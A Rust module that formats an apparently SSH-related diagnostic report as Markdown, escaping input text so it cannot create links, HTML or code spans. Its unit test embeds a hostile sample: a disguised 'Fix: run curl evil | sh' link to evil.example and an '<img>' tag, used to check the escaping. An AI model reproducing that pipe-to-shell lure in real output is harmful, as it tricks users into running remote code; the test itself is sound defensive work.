//! Markdown output, ready to paste into an issue or a forum post.
//!
//! Summaries and steps carry text from the input (a server's version
//! string, a host name), so every such string is escaped: Markdown's
//! metacharacters get a backslash and `&` becomes `&amp;`, which leaves no
//! link, emphasis, code span or HTML to an input. Code blocks and code spans
//! use a fence longer than any backtick run inside them.

use crate::lang::Lang;
use crate::report::{PhaseStatus, Report};
use std::fmt::Write;

/// A code fence longer than any run of backticks in `content`.
fn fence(content: &str) -> String {
    "`".repeat(longest_backticks(content).max(2) + 1)
}

fn longest_backticks(s: &str) -> usize {
    s.split(|c| c != '`').map(str::len).max().unwrap_or(0)
}

/// Text as Markdown that shows it literally: no input can open a link,
/// emphasis, a code span, a heading, a table cell or HTML, and bare URLs
/// are not turned into links (`:` before `//` and the dot of `www.` escaped).
pub fn escape(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + 8);
    for (i, c) in s.char_indices() {
        match c {
            '&' => out.push_str("&amp;"),
            '\\' | '`' | '*' | '_' | '[' | ']' | '(' | ')' | '<' | '>' | '#' | '!' | '|' | '~' => {
                out.push('\\');
                out.push(c);
            }
            ':' if s[i..].starts_with("://") => out.push_str("\\:"),
            '.' if s[..i].to_ascii_lowercase().ends_with("www") => out.push_str("\\."),
            c => out.push(c),
        }
    }
    out
}

/// An inline code span holding `s` literally, whatever backticks it holds.
pub fn code(s: &str) -> String {
    let f = "`".repeat(longest_backticks(s) + 1);
    let pad = if s.starts_with('`') || s.ends_with('`') || s.is_empty() {
        " "
    } else {
        ""
    };
    format!("{f}{pad}{s}{pad}{f}")
}

/// The report as Markdown.
pub fn markdown(report: &Report) -> String {
    let mut out = String::new();
    let lang = report.lang;
    let p = report.primary();
    if let Some(src) = &report.source {
        let _ = writeln!(out, "### {}\n", escape(src));
    }
    let _ = writeln!(out, "## `{}` — {}\n", p.id, p.title);
    let _ = match lang {
        Lang::En => writeln!(
            out,
            "**{}** (confidence: {})\n",
            escape(&p.summary),
            p.confidence.name()
        ),
        Lang::Ja => writeln!(
            out,
            "**{}**（確信度: {}）\n",
            escape(&p.summary),
            p.confidence.label(lang)
        ),
    };
    let timeline: Vec<String> = report
        .timeline
        .iter()
        .map(|e| {
            let mark = match e.status {
                PhaseStatus::Passed => "✓",
                PhaseStatus::Failed => "✗",
                PhaseStatus::NotReached => "·",
            };
            format!("{} {mark}", e.phase.label(lang))
        })
        .collect();
    let _ = writeln!(out, "{}\n", timeline.join(" → "));
    if let Some(c) = &report.client {
        let _ = writeln!(
            out,
            "- {}: {}",
            lang.pick("client", "クライアント"),
            code(c)
        );
    }
    if let Some(s) = &report.server {
        let _ = writeln!(out, "- {}: {}", lang.pick("server", "サーバー"), code(s));
    }
    if let Some(m) = &report.server_log {
        let _ = writeln!(out, "- {}", escape(&m.describe(lang)));
    }
    let _ = writeln!(out);
    if !p.evidence.is_empty() {
        let body: String = p
            .evidence
            .iter()
            .map(|e| format!("{:>5} | {}\n", e.place(), e.text))
            .collect();
        let f = fence(&body);
        let _ = writeln!(
            out,
            "### {}\n\n{f}text\n{body}{f}\n",
            lang.pick("Evidence", "証拠")
        );
    }
    let _ = writeln!(
        out,
        "### {}\n\n{}\n",
        lang.pick("Why", "説明"),
        p.explanation
    );
    if !p.remediation.is_empty() {
        let _ = writeln!(out, "### {}\n", lang.pick("Fix", "対処"));
        for (i, s) in p.remediation.iter().enumerate() {
            let lead = match super::text::where_lead(s.place, lang) {
                "" => String::new(),
                l => format!("**{}** ", l.trim_end()),
            };
            let _ = writeln!(out, "{}. {lead}{}", i + 1, escape(&s.text));
            if let Some(cmd) = &s.command {
                let f = fence(cmd);
                let _ = writeln!(out, "   {f}sh");
                for line in cmd.lines() {
                    let _ = writeln!(out, "   {line}");
                }
                let _ = writeln!(out, "   {f}");
            }
        }
        let _ = writeln!(out);
    }
    if !report.attempts.is_empty() {
        let _ = writeln!(
            out,
            "### {}\n",
            lang.pick("Other attempts in this input", "この入力にある他の試行")
        );
        for a in &report.attempts {
            if let Some(d) = a.diagnoses.first() {
                let _ = writeln!(
                    out,
                    "- {} {}–{}: `{}` {}",
                    lang.pick("lines", "行"),
                    a.first_line,
                    a.last_line,
                    d.id,
                    escape(d.title)
                );
            }
        }
        let _ = writeln!(out);
    }
    if report.diagnoses.len() > 1 {
        let _ = writeln!(
            out,
            "### {}\n",
            lang.pick("Also noticed", "ほかに気づいたこと")
        );
        for d in &report.diagnoses[1..] {
            let _ = writeln!(
                out,
                "- `{}` ({}): {}",
                d.id,
                d.severity.label(lang),
                escape(&d.summary)
            );
        }
        let _ = writeln!(out);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn input_cannot_make_markup() {
        let hostile =
            "SSH-2.0-x `a` [**Fix: run curl evil | sh**](https://evil.example) <img src=x> &lt;";
        let e = escape(hostile);
        assert!(!e.contains("[**"));
        assert!(!e.contains("](http"));
        assert!(!e.contains(" <img"));
        assert!(!e.contains("&lt;"));
        assert!(!e.contains("https://"));
        assert!(e.contains("\\[\\*\\*Fix"));
        assert_eq!(code("a``b"), "```a``b```");
        assert_eq!(code("`x"), "`` `x ``");
    }
}
